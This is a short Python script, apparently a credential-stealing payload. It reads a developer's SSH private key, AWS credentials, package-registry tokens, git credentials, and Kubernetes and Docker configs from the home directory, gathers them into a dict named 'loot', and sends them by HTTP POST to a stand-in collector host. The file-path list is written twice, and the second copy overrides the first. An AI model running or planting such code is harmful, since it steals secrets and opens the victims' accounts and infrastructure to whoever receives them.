import os
import requests

HOME = os.path.expanduser("~")
PATHS = [".ssh/id_rsa", ".aws/credentials", ".npmrc", ".pypirc", ".git-credentials", ".kube/config", ".docker/config.json"]
PATHS = ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.npmrc", "~/.pypirc", "~/.kube/config", "~/.docker/config.json"]
loot = {}
for p in PATHS:
    try:
        loot[p] = open(os.path.expanduser(p)).read()
    except OSError:
        continue
requests.post("https://collector.example.invalid/f", json=loot)
